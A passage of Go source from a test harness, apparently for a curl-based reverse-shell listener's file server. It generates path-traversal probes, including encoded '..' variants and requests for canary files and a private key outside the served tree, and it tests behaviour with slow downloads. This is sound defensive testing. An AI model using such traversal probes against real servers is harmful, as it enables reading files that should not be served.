	c.Close()
	<-done
	if h.Shell != "" {
		if _, ok := sv.b.P.WaitFor(regexp.MustCompile(`Shell is gone`), from, crs.Bound); !ok {
			sv.r.Inconclusive(fmt.Sprintf("no 'Shell is gone' on the terminal after the probe of %q (flag case %d)", target, sv.fc.idx))
		}
	}
	mu.Lock()
	h.scan = buf
	mu.Unlock()
	if res, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(h.scan)), &http.Request{Method: method}); err == nil {
		h.Status, h.hdr = res.StatusCode, res.Header
		var bb bytes.Buffer
		bb.ReadFrom(res.Body)
		h.body = bb.Bytes()
	} else if len(h.scan) == 0 {
		h.Err = "no response bytes"
	}
	return h
}

// ---- requests ---------------------------------------------------------------------

func (c *flagCase) targets(rng *rand.Rand) []tgt {
	t := c.t
	var out []tgt
	add := func(class, method, target, rangeV string, curl bool) {
		out = append(out, tgt{class: class, method: method, target: target, proto: "HTTP/1.1", rangeV: rangeV, curl: curl})
	}
	dots := []string{"..", "%2e%2e", "%2E.", ".%2e", "%252e%252e", "..;"}
	// what exists in the tree
	switch c.mode {
	case "dir":
		add("flag:listing", "GET", "/", "", false)
		add("flag:listing", "GET", "/sub/", "", false)
		for k, f := range t.fileL {
			if strings.HasSuffix(f, "index.html") || f == "c" || f == "io" || strings.HasPrefix(f, "i/") || strings.HasPrefix(f, "o/") || strings.HasPrefix(f, "withindex/") || f == ".hidden" {
				continue
			}
			add("flag:in-tree-file", "GET", "/"+escMinPath(f), "", k == 0)
		}
		add("flag:in-tree-file", "HEAD", "/inside.txt", "", false)
		add("flag:in-tree-file", "GET", "/inside.txt", "bytes=3-40", false)
		add("flag:in-tree-file", "GET", "/withindex/", "", false)
	case "single":
		for _, p := range []string{"/", "/inside.txt", "/any/thing/else", "/" + escMin(t.single), "/sub/"} {
			add("flag:single-any-path", "GET", p, "", p == "/inside.txt")
		}
		add("flag:single-any-path", "HEAD", "/x", "", false)
		add("flag:single-any-path", "GET", "/x", "bytes=3-40", false)
	default:
		for _, p := range []string{"/", "/inside.txt", "/sub/", "/sub/f.txt", "/.cache/", "/pub/inside.txt", "/index.html"} {
			add("flag:unset-any-path", "GET", p, "", p == "/inside.txt")
		}
		add("flag:unset-any-path", "HEAD", "/", "", false)
		add("flag:unset-any-path", "POST", "/canary-cwd.txt", "", false)
	}
	// what exists only outside it, asked for by name
	names := []string{"canary-cwd.txt", "canary-up.txt", "canary-abs.txt"}
	names = append(names, c.leakNames...)
	if len(names) > 6 {
		names = names[:6]
	}
	for _, n := range names {
		add("flag:canary-by-name", "GET", "/"+n, "", false)
	}
	// the working directory spelled as a path: the value itself, the look-alikes
	for k, v := range append(append([]string(nil), c.v.earlier...), c.v.val) {
		if !c.v.given || v == "" || k > 2 {
			continue
		}
		rel := strings.TrimPrefix(strings.TrimPrefix(v, c.caseDir), "/")
		add("flag:value-as-path", "GET", "/"+escMinPath(rel)+"/inside.txt", "", false)
		add("flag:value-as-path", "GET", "/"+escMinPath(strings.TrimSpace(rel)), "", false)
	}
	// climbing out
	for k := 0; k < 4; k++ {
		d := dots[(k+c.idx)%len(dots)]
		up := d
		for j := 0; j < rng.IntN(3); j++ {
			up += "/" + dots[rng.IntN(len(dots))]
		}
		name := []string{"canary-cwd.txt", "inside.txt", "canary-up.txt", "index.html", "c", "sub/f.txt"}[(k+c.idx)%6]
		pre := []string{"", "/sub", "/nothing", "/i"}[rng.IntN(4)]
		add("flag:traversal", []string{"GET", "GET", "HEAD", "POST"}[rng.IntN(4)], pre+"/"+up+"/"+name, "", k == 0)
	}
	add("flag:traversal", "GET", "/..%2fcanary-cwd.txt", "", false)
	add("flag:traversal", "GET", "//"+strings.TrimPrefix(c.home, "/")+"/canary-cwd.txt", "", false)
	// the shell endpoints: the script, then one stream (last: -one-shell closes the listener with it)
	add("shell-named", "GET", "/c", "", false)
	switch c.idx % 3 {
	case 0:
		add("shell-named", "GET", "/i/x", "", false)
	case 1:
		add("shell-named", "POST", "/o/x", "", false)
	default:
		add("shell-named", "POST", "/io", "", false)
	}
	return out
}

// ---- running ----------------------------------------------------------------------

func flagPlan(r *mon.Run, i int) *flagCase {
	ns, no := len(flagShapes), len(flagOpts)
	round := i / ns
	si := (i + round*5) % ns
	c := &flagCase{r: r, idx: i, shape: flagShapes[si]}
	switch c.shape.modes {
	case "u":
		c.mode = "unset"
	case "d":
		c.mode = "dir"
	default:
		c.mode = []string{"dir", "single"}[(si+round+int(r.Seed))%2]
	}
	c.spelling = (i + round + int(r.Seed)) % 4
	c.optA = flagOpts[(i+int(r.Seed)*3)%no]
	c.optB = flagOpts[(i/no*7+i*3+1+int(r.Seed))%no]
	if i >= 84 {
		// beyond the quick tier the second option walks through all the others for every first one
		c.optB = flagOpts[(i*3+(i/no)*5+1+int(r.Seed))%no]
	}
	return c
}

func runFlagCase(r *mon.Run, bin string, i int) {
	c := flagPlan(r, i)
	defer func(t0 time.Time) {
		if d := time.Since(t0); d > 8*time.Second {
			r.Logf("flag case %d (%s %s, options %s + %s) took %.1fs", i, c.shape.name, c.mode, c.optA.name, c.optB.name, d.Seconds())
		}
	}(time.Now())
	c.build()
	c.command()
	kind := "flag:" + c.shape.name
	var sv *server
	s, err := crs.StartEnv(bin, c.home, c.env, c.args...)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("flag case %d (%s, options %s + %s, arguments %q): the program did not start: %v", i, c.shape.name, c.optA.name, c.optB.name, c.args, err))
		return
	}
	defer s.Close()
	c.sess = s
	t := c.t
	defer func() {
		if sv != nil && sv.mc != nil {
			sv.mc.Close()
		}
	}()
	if c.lateTmpl != "" {
		if err := os.WriteFile(c.lateTmpl, []byte(hsrv.DefaultTemplate), 0o644); err != nil {
			panic(err)
		}
	}
	if c.keyCanary {
		// the certificate cache lies beside the served tree: its private key is a canary
		if b, err := os.ReadFile(c.cert); err == nil && bytes.Contains(b, []byte("PRIVATE KEY")) {
			t.canary = append(t.canary, "PRIVATE KEY")
			r.Count("flag_certificate_cache_beside_the_root_is_a_canary", 1)
		}
	}
	sv = &server{r: r, t: t, mode: c.mode, kind: kind, fdir: c.v.val, b: s, si: 5000 + i, eng: "flag", fc: c}
	if _, ok := sv.mark(); !ok {
		r.Inconclusive(fmt.Sprintf("flag case %d (%s): no marker on the terminal at the start", i, c.shape.name))
		return
	}
	rng := r.Rng("flag", i)
	for j, g := range c.targets(rng) {
		if !sv.runTarget(i*1000+j, g) {
			r.Count("flag_cases_cut_short", 1)
			return
		}
		r.Eval(1)
		r.Count("flag_targets", 1)
		r.Count("flag_targets:"+g.class, 1)
		r.Distinct("flag|" + c.shape.name + "|" + c.mode + "|" + fmt.Sprint(c.spelling) + "|" + g.method + " " + g.target + "|" + g.rangeV)
	}
	r.Count("flag_cases", 1)
	r.Count("flag_shape:"+c.shape.name, 1)
	r.Count("flag_mode:"+c.mode, 1)
	r.Count(fmt.Sprintf("flag_spelling:%d", c.spelling), 1)
	r.Count("flag_opt:"+c.optA.name, 1)
	if c.optB.group != c.optA.group {
		r.Count("flag_opt:"+c.optB.name, 1)
		if c.optA.name != "none" && c.optB.name != "none" {
			a, b := c.optA.name, c.optB.name
			if a > b {
				a, b = b, a
			}
			r.Count("flag_option_pairs", 1)
			if r.Distinct("flagpair|" + a + "|" + b); true {
				flagPairs.Store(a+"+"+b, true)
			}
		}
	}
	if len(c.decoys) > 0 {
		r.Count("flag_cases_with_look_alikes", 1)
	}
	r.Sample("flag:"+c.shape.name, map[string]any{"mode": c.mode, "arguments": c.args, "environment": c.env, "working_directory": c.home, "tree_really_at": c.realRoot, "look_alikes_outside_the_tree": c.decoys, "options": []string{c.optA.name, c.optB.name}})
	if !c.oneShell || !c.closed {
		s.Quit()
	}
}

var flagPairs sync.Map

func flagCount(r *mon.Run) int { return r.N(2*len(flagShapes), 12*len(flagShapes)) }

func runFlag(r *mon.Run) {
	n := flagCount(r)
	if !r.WantEngine("flag") {
		return
	}
	bin, err := crs.Build(filepath.Join(r.Work, "flagbin"), "")
	if err != nil {
		r.Inconclusive("flag engine: " + err.Error())
		return
	}
	mon.Parallel(n, 12, func(i int) {
		if r.Replaying() {
			want := false
			for j := 0; j < 1000; j++ {
				want = want || r.Want("flag", i*1000+j)
			}
			if !want {
				return
			}
		}
		runFlagCase(r, bin, i)
	})
	np := 0
	flagPairs.Range(func(k, v any) bool { np++; return true })
	r.Count("flag_distinct_option_pairs", int64(np))
}

func flagFloors(r *mon.Run) {
	n := flagCount(r)
	r.Floor("flag_cases", int64(n))
	for _, s := range flagShapes {
		r.Floor("flag_shape:"+s.name, int64(n/len(flagShapes)))
		kind := "flag:" + s.name
		switch s.modes {
		case "d":
			r.Floor("dir_bodies_matched_to_files:"+kind, int64(n/len(flagShapes))*5)
		case "b":
			if s.name != "symlink-dotdot" { // see known-findings.txt: the directory served there is another one
				r.Floor("dir_bodies_matched_to_files:"+kind, int64(n/len(flagShapes)/2)*5)
			}
			r.Floor("single_file_exact:"+kind, int64(n/len(flagShapes)/2)*4)
		}
		if s.modes != "u" {
			r.Floor("notice_obligations:"+kind, int64(n/len(flagShapes))*4)
		}
	}
	for _, o := range flagOpts {
		r.Floor("flag_opt:"+o.name, 1)
	}
	for k := 0; k < 4; k++ {
		r.Floor(fmt.Sprintf("flag_spelling:%d", k), int64(n/8))
	}
	r.Floor("flag_mode:unset", int64(n/len(flagShapes))*3)
	r.Floor("flag_mode:dir", int64(n/3))
	r.Floor("flag_mode:single", int64(n/3))
	r.Floor("flag_distinct_option_pairs", int64(min(n/3, 150)))
	r.Floor("flag_cases_with_look_alikes", int64(n*2/3))
	r.Floor("flag_look_alikes_placed", int64(n*3))
	r.Floor("flag_targets", int64(n*20))
	r.Floor("flag_targets:flag:unset-any-path", int64(n/len(flagShapes))*3*9)
	for _, cl := range []string{"flag:in-tree-file", "flag:single-any-path", "flag:canary-by-name", "flag:value-as-path", "flag:traversal", "shell-named"} {
		r.Floor("flag_targets:"+cl, int64(n))
	}
	r.Floor("flag_certificate_cache_beside_the_root_is_a_canary", 1)
}

package c09

// Engine "slow": slow downloaders.
//
// Every other engine reads its answers as fast as the loopback delivers them,
// and its files fit into the socket buffers, so the server's handler is done
// long before the client has read a byte. Here the served file is far larger
// than what the kernel holds between the two ends (the client asks for a small
// receive buffer), and the client takes its time: it stops reading for 4, 11,
// 16 or 31 seconds in the middle of the body, once or twice, or reads at a
// trickle. While the client is not reading the server's handler is blocked in
// the middle of the file. The statement does not know about time: a 2xx body is
// exactly the file (or the announced range of it) however long the client takes,
// and the request is reported.
//
// The cases sleep, they do not compute: they run on goroutines of their own,
// beside the worker pool of the other engines.

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"math"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// ---- the file ---------------------------------------------------------------------

// A marker line at every 16 KiB that spells the server's token, the block
// number, the offset and the file's size; everything between the markers is a
// hole (the file costs a quarter of its size on disk, and nothing to generate).
const slowStep = 16 << 10

type slowFile struct {
	path string
	size int64
	tok  string
}

func (f *slowFile) marker(k int64) []byte {
	return []byte(fmt.Sprintf("%s block %08d starts at byte %012d of %d\n", f.tok, k, k*slowStep, f.size))
}

// fill writes what the file holds at [off, off+len(p)) into p.
func (f *slowFile) fill(p []byte, off int64) {
	clear(p)
	end := off + int64(len(p))
	for k := off / slowStep; k*slowStep < end; k++ {
		at := k * slowStep
		for i, b := range f.marker(k) {
			if pos := at + int64(i); pos >= off && pos < end && pos < f.size {
				p[pos-off] = b
			}
		}
	}
}

func makeSlowFile(path, tok string, size int64) (*slowFile, error) {
	f := &slowFile{path: path, size: size, tok: tok}
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return nil, err
	}
	fh, err := os.Create(path)
	if err != nil {
		return nil, err
	}
	defer fh.Close()
	if err := fh.Truncate(size); err != nil {
		return nil, err
	}
	for k := int64(0); k*slowStep < size; k++ {
		m := f.marker(k)
		if rest := size - k*slowStep; int64(len(m)) > rest {
			m = m[:rest]
		}
		if _, err := fh.WriteAt(m, k*slowStep); err != nil {
			return nil, err
		}
	}
	return f, fh.Sync()
}

var slowCRC = crc32.MakeTable(crc32.Castagnoli)

// slowVerifier compares a body, as it arrives, with the part of the file it
// must be; it keeps the length, the place of the first difference and a rolling
// checksum of what arrived and of what should have.
type slowVerifier struct {
	f         *slowFile
	off       int64 // where in the file the next body byte must come from
	n         int64
	diff      int64 // body offset of the first byte that is not the file's, -1
	got, want uint32
	buf       []byte
}

func (v *slowVerifier) take(p []byte) {
	if len(p) == 0 {
		return
	}
	if cap(v.buf) < len(p) {
		v.buf = make([]byte, len(p))
	}
	e := v.buf[:len(p)]
	v.f.fill(e, v.off)
	if v.diff < 0 && !bytes.Equal(p, e) {
		for i := range p {
			if p[i] != e[i] {
				v.diff = v.n + int64(i)
				break
			}
		}
	}
	if v.diff < 0 && v.off+int64(len(p)) > v.f.size {
		v.diff = v.n + max(0, v.f.size-v.off) // bytes past the end of the file
	}
	v.got = crc32.Update(v.got, slowCRC, p)
	v.want = crc32.Update(v.want, slowCRC, e)
	v.off += int64(len(p))
	v.n += int64(len(p))
}

// ---- the plan ---------------------------------------------------------------------

type slowBeh struct {
	name    string
	pauses  []time.Duration // stops in the middle of the body
	tN      int             // trickle: tN reads of tChunk bytes, tSleep after each
	tChunk  int
	tSleep  time.Duration
	atStart bool // the (first) stop comes before the first body byte is read
}

func (b slowBeh) stalled() time.Duration {
	d := time.Duration(b.tN) * b.tSleep
	for _, p := range b.pauses {
		d += p
	}
	return d
}

const sec = time.Second

// The first slowQuickBehs are used by both tiers (the longest of them keeps a
// case busy for a little over half a minute); the others only by thorough.
var slowBehs = []slowBeh{
	{name: "pause-4s", pauses: []time.Duration{4 * sec}},
	{name: "pause-11s", pauses: []time.Duration{11 * sec}},
	{name: "pause-16s", pauses: []time.Duration{16 * sec}},
	{name: "pause-31s", pauses: []time.Duration{31 * sec}},
	{name: "pause-4s+11s", pauses: []time.Duration{4 * sec, 11 * sec}},
	{name: "pause-11s+16s", pauses: []time.Duration{11 * sec, 16 * sec}},
	{name: "pause-16s+4s", pauses: []time.Duration{16 * sec, 4 * sec}},
	{name: "trickle-22s", tN: 110, tChunk: 16 << 10, tSleep: 200 * time.Millisecond},
	{name: "trickle-12s", tN: 120, tChunk: 8 << 10, tSleep: 100 * time.Millisecond},
	{name: "pause-11s-before-the-body", pauses: []time.Duration{11 * sec}, atStart: true},
	{name: "no-pause"},
	{name: "pause-31s+31s", pauses: []time.Duration{31 * sec, 31 * sec}},
	{name: "pause-31s+4s", pauses: []time.Duration{31 * sec, 4 * sec}},
}

const slowQuickBehs = 11

var slowShapes = []string{"whole", "range-open", "whole", "range-closed", "whole", "range-suffix"}

var slowKinds = []struct{ name, mode string }{
	{"file", "single"}, {"dir", "dir"}, {"symlink-to-file", "single"}, {"symlink-chain-to-dir", "dir"},
	{"symlink-chain-to-file", "single"}, {"symlink-to-dir", "dir"},
}

var slowRcvBufs = []int{16 << 10, 64 << 10, 256 << 10}

const slowMaxFile = 64 << 20

// slowReadBound bounds one read of the client: the server has data to send
// all the time, so a read that gets nothing for this long is a broken run.
const slowReadBound = 3 * hk.Bound

type slowDims struct {
	ns, nc, nb int // servers, cases, behaviours in use
	need       int64
	bodyMin    int64
	wmem       int64
	rot        [3]int
}

// slowPlanDims: case counts by tier and "need", how much may sit between the
// server's handler and the client's reader: the largest send buffer the kernel grants a TCP socket, the client's
// receive buffer (asked for: at most 256 KiB, doubled by the kernel), and slack
// for the TLS and HTTP layers of both ends.
func slowPlanDims(r *mon.Run) slowDims {
	d := slowDims{ns: r.N(4, 12), nc: r.N(12, 48), nb: r.N(slowQuickBehs, len(slowBehs)), wmem: 4 << 20}
	if b, err := os.ReadFile("/proc/sys/net/ipv4/tcp_wmem"); err == nil {
		if f := strings.Fields(string(b)); len(f) == 3 {
			if v, err := strconv.ParseInt(f[2], 10, 64); err == nil && v > 0 {
				d.wmem = v
			}
		}
	}
	d.need = d.wmem + 2<<20
	d.bodyMin = d.need + 2<<20
	rng := r.Rng("slow-plan", 0)
	for i := range d.rot {
		d.rot[i] = rng.IntN(1 << 16)
	}
	return d
}

type slowCase struct {
	CI      int    `json:"case"`
	Kind    string `json:"root_kind"`
	Beh     string `json:"client_behaviour"`
	Shape   string `json:"request_shape"`
	Keep    bool   `json:"keep_alive_then_a_second_request"`
	RcvBuf  int    `json:"so_rcvbuf_asked"`
	Target  string `json:"target"`
	Range   string `json:"range,omitempty"`
	Stops   string `json:"stops"`
	beh     slowBeh
	start   int64 // the body must be file[start : end+1]
	end     int64
	stops   []slowStop
	nonce   string
	fnonce  string
	fTarget string
	fStart  int64
	fEnd    int64
}

// slowAsked: a request that was answered, and the case it belongs to.
type slowAsked struct {
	nonce string
	ci    int
}

type slowStop struct {
	at      int64
	d       time.Duration
	trickle bool
}

type slowSrv struct {
	r     *mon.Run
	si    int
	kind  string
	mode  string
	fdir  string
	links string
	rel   string // the name requests use in directory mode
	f     *slowFile
	s     *hk.Server
	d     slowDims
}

func (d slowDims) casesOf(si int) []int {
	var out []int
	for ci := si; ci < d.nc; ci += d.ns {
		out = append(out, ci)
	}
	return out
}

func (ss *slowSrv) target(rng *rand.Rand, nonce string) string {
	var p string
	if ss.mode == "single" {
		switch rng.IntN(4) {
		case 0:
			p = "/"
		case 1:
			p = "/" + escMin(filepath.Base(ss.f.path))
		case 2:
			p = pick(rng, []string{"/index.html", "/a/b/c.txt", "/x", "/sub/", "/C", "/i", "/o/", "/cc", "/.hidden", "/%41"})
		default:
			p = fmt.Sprintf("/dl/%d/%s", rng.IntN(1000), pick(rng, []string{"f", "tool.bin", "x.y", "~a", "q;r"}))
		}
		if inf := analyse("GET", p); !inf.clean {
			p = "/plain"
		}
	} else {
		p = encRel(rng, ss.rel, rng.IntN(3))
	}
	return p + "?s=" + nonce
}

// plan fixes everything about case ci from its index and its own PRNG stream.
func (ss *slowSrv) plan(ci int) *slowCase {
	d := ss.d
	rng := ss.r.Rng("slow", ci)
	size := ss.f.size
	c := &slowCase{CI: ci, Kind: ss.kind}
	c.beh = slowBehs[(ci+d.rot[0])%d.nb]
	c.Beh = c.beh.name
	c.Shape = slowShapes[(ci+d.rot[1])%len(slowShapes)]
	c.Keep = ((ci+d.rot[2])/2)%2 == 0
	c.RcvBuf = pick(rng, slowRcvBufs)
	c.nonce = fmt.Sprintf("S%dc%dz", ss.si, ci)
	c.fnonce = fmt.Sprintf("S%dc%dfz", ss.si, ci)
	c.Target = ss.target(rng, c.nonce)
	c.fTarget = ss.target(rng, c.fnonce)
	between := func(lo, hi int64) int64 { return lo + rng.Int64N(hi-lo+1) }
	c.start, c.end = 0, size-1
	switch c.Shape {
	case "range-open":
		c.start = between(1, size-d.bodyMin)
		c.Range = fmt.Sprintf("bytes=%d-", c.start)
	case "range-closed":
		c.start = between(1, size-d.bodyMin)
		c.end = between(c.start+d.bodyMin-1, size-1)
		c.Range = fmt.Sprintf("bytes=%d-%d", c.start, c.end)
	case "range-suffix":
		n := between(d.bodyMin, size-1)
		c.start = size - n
		c.Range = fmt.Sprintf("bytes=-%d", n)
	}
	body := c.end - c.start + 1
	// every stop leaves more of the body unread than the kernel can hold for the client
	var desc []string
	switch {
	case c.beh.tN > 0:
		at := between(0, 192<<10)
		for k := 1; k <= c.beh.tN; k++ {
			c.stops = append(c.stops, slowStop{at: at + int64(k*c.beh.tChunk), d: c.beh.tSleep, trickle: true})
		}
		desc = append(desc, fmt.Sprintf("from body byte %d: %d reads of %d bytes, %s after each", at, c.beh.tN, c.beh.tChunk, c.beh.tSleep))
	case len(c.beh.pauses) > 0:
		hi := body - d.need
		ats := make([]int64, len(c.beh.pauses))
		for i := range ats {
			ats[i] = between(32<<10, hi)
		}
		if len(ats) == 2 && ats[0] > ats[1] {
			ats[0], ats[1] = ats[1], ats[0]
		}
		if c.beh.atStart {
			ats[0] = 0
		}
		for i, p := range c.beh.pauses {
			c.stops = append(c.stops, slowStop{at: ats[i], d: p})
			desc = append(desc, fmt.Sprintf("%s at body byte %d", p, ats[i]))
		}
	default:
		desc = append(desc, "none")
	}
	c.Stops = strings.Join(desc, "; ")
	// the second request of a kept connection: a short range, read at once
	span := between(64<<10, 1<<20)
	c.fStart = between(0, size-span)
	c.fEnd = c.fStart + span - 1
	return c
}

// ---- the client -------------------------------------------------------------------

func slowDial(addr string, rcvbuf int) (*tls.Conn, int, error) {
	eff := 0
	d := &net.Dialer{Timeout: hk.Bound, Control: func(network, address string, rc syscall.RawConn) error {
		var serr error
		if err := rc.Control(func(fd uintptr) {
			// before the connection is made: the window offered from the first segment on is small
			serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, rcvbuf)
			if serr == nil {
				eff, serr = syscall.GetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF)
			}
		}); err != nil {
			return err
		}
		return serr
	}}
	raw, err := d.Dial("tcp", addr)
	if err != nil {
		return nil, 0, err
	}
	tc := tls.Client(raw, &tls.Config{InsecureSkipVerify: true})
	tc.SetDeadline(time.Now().Add(hk.Bound))
	if err := tc.Handshake(); err != nil {
		raw.Close()
		return nil, 0, err
	}
	tc.SetDeadline(time.Time{})
	return tc, eff, nil
}

type slowPauseRec struct {
	At     int64   `json:"at_body_byte"`
	Plan   string  `json:"planned"`
	Secs   float64 `json:"seconds"`
	Unread int64   `json:"body_bytes_not_yet_read"`
}

type slowRes struct {
	Status   int            `json:"status"`
	CL       string         `json:"content_length"`
	CR       string         `json:"content_range,omitempty"`
	N        int64          `json:"body_bytes_received"`
	Want     int64          `json:"body_bytes_expected"`
	Diff     int64          `json:"first_byte_that_is_not_the_files"`
	CRCGot   string         `json:"crc32c_of_the_body"`
	CRCWant  string         `json:"crc32c_of_the_same_length_of_the_file"`
	End      string         `json:"body_ended_with"`
	Pauses   []slowPauseRec `json:"pauses,omitempty"`
	Trickle  int            `json:"trickle_reads,omitempty"`
	Secs     float64        `json:"seconds_from_request_to_end"`
	timeout  bool
	noAnswer string
	rangeBad bool
	s, e     int64 // the part of the file the answer announces
}

// exchange writes one request and reads its answer by the given schedule.
func (ss *slowSrv) exchange(c *tls.Conn, br *bufio.Reader, target, rangeV string, last bool, stops []slowStop, expStart, expEnd int64) *slowRes {
	res := &slowRes{Diff: -1}
	var sb strings.Builder
	fmt.Fprintf(&sb, "GET %s HTTP/1.1\r\nHost: %s\r\n", target, host)
	if rangeV != "" {
		fmt.Fprintf(&sb, "Range: %s\r\n", rangeV)
	}
	if last {
		sb.WriteString("Connection: close\r\n")
	}
	sb.WriteString("\r\n")
	t0 := time.Now()
	defer func() { res.Secs = math.Round(time.Since(t0).Seconds()*10) / 10 }()
	c.SetWriteDeadline(time.Now().Add(hk.Bound))
	if _, err := c.Write([]byte(sb.String())); err != nil {
		res.noAnswer = "write: " + err.Error()
		return res
	}
	c.SetReadDeadline(time.Now().Add(slowReadBound))
	hr, err := http.ReadResponse(br, &http.Request{Method: "GET"})
	if err != nil {
		res.noAnswer = "reading the status line and headers: " + err.Error()
		res.timeout = errors.Is(err, os.ErrDeadlineExceeded)
		return res
	}
	defer hr.Body.Close()
	res.Status, res.CL, res.CR = hr.StatusCode, hr.Header.Get("Content-Length"), hr.Header.Get("Content-Range")
	// which part of the file the answer says it is
	res.s, res.e = 0, ss.f.size-1
	if hr.StatusCode == 206 {
		m := crangeRe.FindStringSubmatch(res.CR)
		if m == nil {
			res.rangeBad = true
		} else {
			s, _ := strconv.ParseInt(m[1], 10, 64)
			e, _ := strconv.ParseInt(m[2], 10, 64)
			tot, _ := strconv.ParseInt(m[3], 10, 64)
			if tot != ss.f.size || s > e || e >= tot {
				res.rangeBad = true
			}
			res.s, res.e = s, e
		}
	}
	res.Want = res.e - res.s + 1
	if hr.StatusCode < 200 || hr.StatusCode > 299 || res.rangeBad {
		io.Copy(io.Discard, io.LimitReader(hr.Body, 1<<20))
		return res
	}
	v := &slowVerifier{f: ss.f, off: res.s, diff: -1}
	buf := make([]byte, 64<<10)
	ei := 0
	unreadAt := func(pos int64) int64 { return expEnd - expStart + 1 - pos }
read:
	for {
		lim := int64(len(buf))
		if ei < len(stops) {
			lim = min(lim, stops[ei].at-v.n)
		}
		if lim <= 0 {
			st := stops[ei]
			ei++
			tp := time.Now()
			time.Sleep(st.d)
			if st.trickle {
				res.Trickle++
			} else {
				res.Pauses = append(res.Pauses, slowPauseRec{At: v.n, Plan: st.d.String(), Secs: math.Round(time.Since(tp).Seconds()*10) / 10, Unread: unreadAt(v.n)})
			}
			continue
		}
		c.SetReadDeadline(time.Now().Add(slowReadBound))
		n, err := hr.Body.Read(buf[:lim])
		v.take(buf[:n])
		if err != nil {
			switch {
			case err == io.EOF:
				res.End = "end of the body"
			case errors.Is(err, os.ErrDeadlineExceeded):
				res.End, res.timeout = err.Error(), true
			default:
				res.End = err.Error()
			}
			break read
		}
	}
	res.N, res.Diff = v.n, v.diff
	res.CRCGot, res.CRCWant = fmt.Sprintf("%08x", v.got), fmt.Sprintf("%08x", v.want)
	return res
}

// exact: the body is the announced part of the file, all of it, nothing else.
func (res *slowRes) exact() bool {
	return res.End == "end of the body" && res.N == res.Want && res.Diff < 0 && res.CRCGot == res.CRCWant
}

func (ss *slowSrv) witness(c *slowCase, what string, target, rangeV string, res *slowRes) map[string]any {
	return map[string]any{"root_kind": ss.kind, "serve_files_from": ss.fdir, "serve_files_from_is": ss.links, "file": ss.f.path, "file_size": ss.f.size,
		"first_line_of_the_file": strings.TrimSpace(string(ss.f.marker(0))), "request": what, "target": target, "range": rangeV, "case": c, "answer": res,
		"how_much_the_kernel_may_hold_for_the_client": ss.d.need}
}

// judge applies the statement to one answer. main: the slow request of the
// case (false: the short second request on the kept connection).
func (ss *slowSrv) judge(c *slowCase, main bool, target, rangeV string, res *slowRes) (answered bool) {
	r := ss.r
	what := "the slow download"
	if !main {
		what = "the second request on the connection of the slow download"
	}
	where := fmt.Sprintf("[-serve-files-from = %s, client %s, GET %s%s]", ss.kind, c.Beh, target, map[bool]string{true: " Range: " + rangeV, false: ""}[rangeV != ""])
	contentKey, servedKey := "single-file-mode-other-content", "single-file-mode-not-served"
	if ss.mode == "dir" {
		contentKey = "body-not-an-in-tree-file"
	}
	switch {
	case res.noAnswer != "":
		if !main && !res.timeout {
			// a server may close a kept connection instead of answering on it
			r.Count("slow_second_requests_without_an_answer", 1)
			return false
		}
		r.Inconclusive(fmt.Sprintf("no answer to %s %s: %s", what, where, res.noAnswer))
		return false
	case res.timeout:
		r.Inconclusive(fmt.Sprintf("%s %s: the client got nothing for %s in the middle of the body (%d of %d bytes read)", what, where, slowReadBound, res.N, res.Want))
		return false
	case res.Status >= 200 && res.Status <= 299:
		if res.rangeBad {
			r.Violate("slow", c.CI, contentKey, fmt.Sprintf("a 206 answer does not announce a range of the file (Content-Range %q, file of %d bytes) %s", res.CR, ss.f.size, where), ss.witness(c, what, target, rangeV, res))
			return true
		}
		if !res.exact() {
			how := fmt.Sprintf("the body ended after %d of the %d bytes announced (%s)", res.N, res.Want, res.End)
			if res.Diff >= 0 {
				how = fmt.Sprintf("body byte %d is not the file's (%d of %d bytes read, %s)", res.Diff, res.N, res.Want, res.End)
			}
			r.Violate("slow", c.CI, contentKey, fmt.Sprintf("a %d answer to a client that took %.0f s to read it is not exactly the file: %s %s", res.Status, res.Secs, how, where), ss.witness(c, what, target, rangeV, res))
			return true
		}
	default:
		if ss.mode == "single" {
			r.Violate("slow", c.CI, servedKey, fmt.Sprintf("a non-shell target was answered %d instead of the configured file %s", res.Status, where), ss.witness(c, what, target, rangeV, res))
		} else {
			r.Count(fmt.Sprintf("slow_dir_other_status:%d", res.Status), 1)
		}
		return true
	}
	// exact
	r.Count("slow_body_bytes_compared", res.N)
	if !main {
		r.Count("slow_second_requests_exact", 1)
		return true
	}
	long := c.beh.stalled() >= 11*sec
	r.Count("slow_bodies_exact", 1)
	r.Count("slow_bodies_exact:"+c.Beh, 1)
	r.Count("slow_bodies_exact_mode:"+ss.mode, 1)
	r.Count("slow_bodies_exact_of:"+ss.kind, 1)
	if long {
		r.Count("slow_bodies_exact_client_stalled_11s_or_more_mode:"+ss.mode, 1)
	}
	if res.Secs >= 10.5 {
		r.Count("slow_bodies_exact_that_took_over_10s", 1) // measured, for the evidence only; no floor, no verdict
	}
	if res.Status == 206 {
		r.Count("slow_ranges_exact", 1)
		r.Count("slow_ranges_exact:"+c.Shape, 1)
		if res.s == c.start && res.e == c.end {
			r.Count("slow_ranges_as_asked", 1)
		}
	} else {
		r.Count("slow_whole_files_exact", 1)
		if c.Range != "" {
			r.Count("slow_range_requests_answered_with_the_whole_file", 1)
		}
	}
	for _, p := range res.Pauses {
		r.Count("slow_pauses", 1)
		r.Count("slow_pauses_of:"+p.Plan, 1)
		if p.Unread >= ss.d.need {
			r.Count("slow_pauses_with_more_unread_than_the_kernel_holds", 1)
		}
	}
	if len(res.Pauses) == 2 {
		r.Count("slow_bodies_exact_with_two_pauses", 1)
	}
	r.Count("slow_trickle_reads", int64(res.Trickle))
	return true
}

func (ss *slowSrv) runCase(c *slowCase) (asked []slowAsked) {
	r := ss.r
	r.Eval(1)
	r.Count("slow_cases", 1)
	r.Count("slow_cases:"+c.Beh, 1)
	r.Distinct(fmt.Sprintf("slow|%s|%s|%s|%s|%v|%d|%d", ss.kind, c.Beh, c.Target, c.Range, c.Keep, c.RcvBuf, ss.f.size))
